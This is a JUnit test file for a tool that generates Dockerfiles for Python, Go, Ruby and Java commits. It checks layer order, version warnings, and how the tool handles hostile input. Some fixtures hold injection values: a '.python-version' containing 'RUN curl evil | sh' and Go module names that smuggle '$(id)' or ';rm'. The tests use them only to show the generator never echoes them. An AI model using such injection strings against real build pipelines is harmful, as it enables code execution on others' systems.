package hiy.build;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The Dockerfiles HIY writes for Python, Go, Ruby and Java commits: fixed lines only, chosen by the files. */
class LanguageDockerfilesTest {
    static final String PY = "docker.io/library/python:3.12-slim-bookworm";
    static final String GO = "docker.io/library/golang:1.22-bookworm";
    static final String RUBY = "docker.io/library/ruby:3.3-slim-bookworm";
    static final JavaDockerfile.Images JAVA = new JavaDockerfile.Images("maven:3.9-eclipse-temurin-21", "gradle:8-jdk21",
            "eclipse-temurin:21-jre");
    @TempDir
    Path dir;
    private final List<TestRepo> repos = new ArrayList<>();

    /** A commit of exactly these files (each in a repository of its own: a commit keeps the files before it). */
    private SourceTree tree(Map<String, String> files) throws Exception {
        TestRepo repo = TestRepo.create(dir.resolve("repo" + repos.size()));
        repos.add(repo);
        return repo.commit(files);
    }

    @AfterEach
    void close() {
        repos.forEach(TestRepo::close);
    }

    @Test
    void pythonInstallsRequirementsBeforeTheCode() throws Exception {
        WrittenDockerfile w = PythonDockerfile.write(PY, tree(Map.of("requirements.txt", "flask\n",
                "Procfile", "web: python app.py\n")));
        String d = w.text();
        assertTrue(d.contains("FROM " + PY + "\n"), d);
        assertTrue(d.indexOf("COPY [\"requirements.txt\", \"./\"]\nRUN pip install -r requirements.txt\n")
                < d.indexOf("COPY . ."), "manifest first, so a code change reuses the dependency layer: " + d);
        assertEquals(List.of(), w.warnings());
        DockerfileCheck.check(d);
    }

    @Test
    void pythonPipfileAndPyprojectEachGetTheirInstall() throws Exception {
        String pipenv = PythonDockerfile.write(PY, tree(Map.of("Pipfile", "", "Pipfile.lock", "{}",
                "Procfile", "web: x\n"))).text();
        assertTrue(pipenv.contains("RUN pipenv install --system --deploy\n"), pipenv);
        String project = PythonDockerfile.write(PY, tree(Map.of("pyproject.toml", "", "Procfile", "worker: x\n"))).text();
        assertTrue(project.contains("COPY . .\nRUN pip install .\n"), project);
    }

    @Test
    void pythonWithoutAProcfileSaysWhatToAdd() throws Exception {
        BuildException e = assertThrows(BuildException.class,
                () -> PythonDockerfile.write(PY, tree(Map.of("requirements.txt", ""))));
        assertTrue(e.getMessage().startsWith("nothing starts this Python app: add a Procfile"), e.getMessage());
    }

    @Test
    void aPythonVersionTheImageLacksIsAWarningAndAHostileOneIsNotEchoed() throws Exception {
        WrittenDockerfile asks = PythonDockerfile.write(PY, tree(Map.of("requirements.txt", "",
                "Procfile", "web: x\n", ".python-version", "3.11.4\n")));
        assertEquals(List.of("! .python-version asks for python 3.11; building with " + PY
                + " (the box's HIY_PYTHON_IMAGE; ask the admin for another, or add a Dockerfile)"), asks.warnings());
        assertEquals(List.of(), PythonDockerfile.write(PY, tree(Map.of("requirements.txt", "",
                "Procfile", "web: x\n", "runtime.txt", "python-3.12.1\n"))).warnings());
        WrittenDockerfile evil = PythonDockerfile.write(PY, tree(Map.of("requirements.txt", "",
                "Procfile", "web: x\n", ".python-version", "3.12\nRUN curl evil | sh\n\u001b[31m")));
        assertEquals(List.of(), evil.warnings(), "the first line is read, the rest is no instruction");
        WrittenDockerfile odd = PythonDockerfile.write(PY, tree(Map.of("requirements.txt", "",
                "Procfile", "web: x\n", ".python-version", "\u001b[31mpypy\n")));
        assertEquals(List.of("! .python-version does not hold a python version HIY can read; building with " + PY
                + " (HIY_PYTHON_IMAGE)"), odd.warnings());
        assertFalse(odd.text().contains("pypy"));
    }

    @Test
    void goBuildsEveryMainInTwoStagesAndRunsTheModulesProgram() throws Exception {
        WrittenDockerfile w = GoDockerfile.write(GO, "debian:bookworm-slim",
                tree(Map.of("go.mod", "module example.com/hello/v2\n\ngo 1.21\n", "go.sum", "", "main.go", "")));
        String d = w.text();
        assertTrue(d.contains("FROM " + GO + " AS build\n"), d);
        assertTrue(d.indexOf("COPY [\"go.mod\", \"go.sum\", \"./\"]\nRUN go mod download\n") < d.indexOf("COPY . ."), d);
        assertTrue(d.contains("RUN mkdir -p /out && go build -o /out/ ./...\nFROM debian:bookworm-slim\n"), d);
        assertTrue(d.endsWith("CMD [\"/app/bin/hello\"]\n"), d);
        assertEquals(List.of(), w.warnings());
        DockerfileCheck.check(d);
    }

    @Test
    void aGoModuleNewerThanTheToolchainIsAWarning() throws Exception {
        WrittenDockerfile w = GoDockerfile.write(GO, "debian:bookworm-slim",
                tree(Map.of("go.mod", "module hello\n\ngo 1.23.1\n")));
        assertEquals(List.of("! go.mod asks for go 1.23; building with " + GO
                + " (the box's HIY_GO_IMAGE; ask the admin for a newer one, or add a Dockerfile)"), w.warnings());
        assertFalse(w.text().contains("go.sum"), "no go.sum, none copied: " + w.text());
    }

    @Test
    void aGoModuleNameThatIsNoProgramNameNeedsAProcfile() throws Exception {
        assertEquals("app", GoDockerfile.binary("module \"example.com/app\"\n").orElseThrow());
        assertTrue(GoDockerfile.binary("module x;rm\n").isEmpty());
        BuildException e = assertThrows(BuildException.class, () -> GoDockerfile.write(GO, "debian:bookworm-slim",
                tree(Map.of("go.mod", "module ex/$(id)\n"))));
        assertTrue(e.getMessage().contains("add a Procfile line such as web: NAME"), e.getMessage());
        String withProcfile = GoDockerfile.write(GO, "debian:bookworm-slim",
                tree(Map.of("go.mod", "module ex/$(id)\n", "Procfile", "web: server\n"))).text();
        assertFalse(withProcfile.contains("CMD") || withProcfile.contains("$(id)"), withProcfile);
    }

    @Test
    void rubyBundlesBeforeTheCodeAndRunsARackAppWithoutAProcfile() throws Exception {
        String d = RubyDockerfile.write(RUBY, tree(Map.of("Gemfile", "", "Gemfile.lock", "", "config.ru", ""))).text();
        assertTrue(d.contains("ENV BUNDLE_WITHOUT=development:test BUNDLE_DEPLOYMENT=1\n"), d);
        assertTrue(d.indexOf("COPY [\"Gemfile\", \"Gemfile.lock\", \"./\"]\nRUN bundle install\n") < d.indexOf("COPY . ."), d);
        assertTrue(d.endsWith("CMD exec bundle exec rackup --host 0.0.0.0 --port \"${PORT:-5000}\"\n"), d);
        DockerfileCheck.check(d);
        String procfile = RubyDockerfile.write(RUBY, tree(Map.of("Gemfile", "", "Procfile", "web: ruby app.rb\n"))).text();
        assertFalse(procfile.contains("CMD"), procfile);
        assertThrows(BuildException.class, () -> RubyDockerfile.write(RUBY, tree(Map.of("Gemfile", ""))));
    }

    @Test
    void javaBuildsTheJarWithMavenOrGradleAndRunsItOnAJre() throws Exception {
        String maven = JavaDockerfile.write(JAVA, tree(Map.of("pom.xml", "<project/>"))).text();
        assertTrue(maven.contains("FROM maven:3.9-eclipse-temurin-21 AS build\n"), maven);
        assertTrue(maven.indexOf("RUN mvn -B -q dependency:go-offline\n") < maven.indexOf("COPY . ."), maven);
        assertTrue(maven.contains("FROM eclipse-temurin:21-jre\n") && maven.endsWith("CMD [\"java\", \"-jar\", \"/app/app.jar\"]\n"), maven);
        DockerfileCheck.check(maven);
        String gradle = JavaDockerfile.write(JAVA, tree(Map.of("build.gradle.kts", ""))).text();
        assertTrue(gradle.contains("FROM gradle:8-jdk21 AS build\n") && gradle.contains("build/libs/*.jar"), gradle);
        DockerfileCheck.check(gradle);
    }

    @Test
    void versionsAreReadFromTagsAndFiles() {
        assertEquals("3.12", LanguageVersion.ofImage("docker.io/library/python:3.12-slim-bookworm").orElseThrow());
        assertEquals("1.22", LanguageVersion.ofImage("golang:1.22-bookworm").orElseThrow());
        assertTrue(LanguageVersion.ofImage("localhost:5000/python").isEmpty());
        assertEquals("3.11", LanguageVersion.majorMinor("3.11.4").orElseThrow());
        assertTrue(LanguageVersion.majorMinor("3").isEmpty());
    }
}
